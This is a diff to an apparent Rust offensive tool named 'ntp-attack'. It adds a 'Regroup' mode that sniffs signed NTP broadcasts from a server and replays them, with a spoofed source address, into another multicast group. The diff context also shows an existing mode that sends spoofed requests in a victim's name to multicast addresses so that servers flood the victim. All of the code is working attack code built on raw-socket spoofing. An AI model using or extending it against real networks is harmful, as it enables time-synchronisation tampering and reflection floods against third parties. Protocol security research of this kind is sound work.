@@ -187,6 +187,22 @@ enum Mode {
         #[arg(long, default_value_t = 500, allow_hyphen_values = true)]
         shift_ms: i64,
     },
+    /// Re-send each of a server's broadcasts to `--from-group`, unchanged
+    /// and from its address, into `--to-group` at once (a replay into
+    /// another group: its signature names the group it was sent to).
+    Regroup {
+        #[command(flatten)]
+        limits: Limits,
+        /// The server whose broadcasts to move.
+        #[arg(long)]
+        server: Ipv4Addr,
+        /// The group it sends to.
+        #[arg(long, default_value = "224.0.1.1")]
+        from_group: Ipv4Addr,
+        /// The group to re-send into.
+        #[arg(long)]
+        to_group: Ipv4Addr,
+    },
     /// Spoofed requests in a victim's name to a multicast or broadcast
     /// address, so every server there answers the victim.
     McastRequest {
@@ -350,6 +366,12 @@ fn run(mode: Mode) -> Result<Summary, String> {
             &public_key,
             shift_ms,
         ),
+        Mode::Regroup {
+            limits,
+            server,
+            from_group,
+            to_group,
+        } => regroup(&limits, server, from_group, to_group),
         Mode::McastRequest {
             limits,
             victim,
@@ -514,6 +536,37 @@ fn insider_reply(
             )?;
             s.sent += 1;
         }
+    }
+    Ok(s)
+}
+
+fn regroup(
+    l: &Limits,
+    server: Ipv4Addr,
+    from_group: Ipv4Addr,
+    to_group: Ipv4Addr,
+) -> Result<Summary, String> {
+    let b = bounds(l)?;
+    let mut sniff = io("packet socket", Sniffer::new(&l.iface))?;
+    let spoof = io("raw socket", Spoofer::new())?;
+    eprintln!("ntp-attack: listening");
+    let mut s = summary("regroup");
+    let (src, dst) = (
+        SocketAddrV4::new(server, NTP),
+        SocketAddrV4::new(to_group, NTP),
+    );
+    let mut newest = 0u64;
+    while b.more(s.sent) {
+        let Some(p) = io("sniff", sniff.next_until(b.until()))? else {
+            break;
+        };
+        let Some(t) = genuine(&p, server, from_group, newest) else {
+            continue;
+        };
+        newest = t;
+        s.seen += 1;
+        io("send", spoof.send(src, dst, &p.payload))?;
+        s.sent += 1;
     }
     Ok(s)
 }
